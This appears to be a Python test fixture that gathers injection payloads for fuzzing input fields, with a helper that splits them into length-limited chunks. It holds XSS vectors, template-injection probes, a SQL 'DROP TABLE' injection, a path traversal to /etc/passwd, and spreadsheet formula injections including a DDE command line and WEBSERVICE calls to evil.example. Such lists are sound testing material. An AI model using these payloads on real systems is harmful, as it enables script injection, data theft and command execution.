"""What people have typed into fields in the hope that a page, a spreadsheet or a terminal would run it."""

from __future__ import annotations

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form><button formaction=javascript:alert(1)>go",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
]
DRAWINGS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
]
TEMPLATES = [
    "{{7*7}}",
    "{{config}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{answered}{0.__class__}",
    "%(secret)s %s %n",
    "{{constructor.constructor('alert(1)')()}}",
]
STYLES = [
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=position:fixed;inset:0;background:red>x",
    "<div style='background:url(javascript:alert(1))'>",
    "@import '//evil.example';",
    "x:expression(alert(1))",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`</code><script>alert(1)</script>`",
]
LETTERS = [
    "\u202egnp.exe\u202c after",
    "\u2066\u2067\u2068\u2069 isolates",
    "\ufeffzero\u200bwidth\u200djoined",
    "Z̸̡̢̛͓͔̝̞͖̗a̷l̶g̵o̴",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "﷽﷽﷽",
    "😮‍💨👨‍👩‍👧‍👦🏳️‍🌈",
    "\u0000null\u0007bell\u001b[31mred",
    "line\u2028separators\u2029here",
    "' OR 1=1; DROP TABLE ballots; --",
    "../../../../etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "x;=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/c calc'!A1",
    '=WEBSERVICE("http://evil.example")',
]
PAYLOADS = [*SCRIPTS, *HANDLERS, *DRAWINGS, *TEMPLATES, *STYLES, *MARKDOWN, *LETTERS, *FORMULAS]


def chunks(most: int) -> list[str]:
    """All of it, in as few texts as it takes where so many characters go into a field."""
    texts = [""]
    for payload in PAYLOADS:
        joined = f"{texts[-1]} {payload}" if texts[-1] else payload
        texts[-1:] = [joined] if len(joined) <= most else [texts[-1], payload[:most]]
    return texts
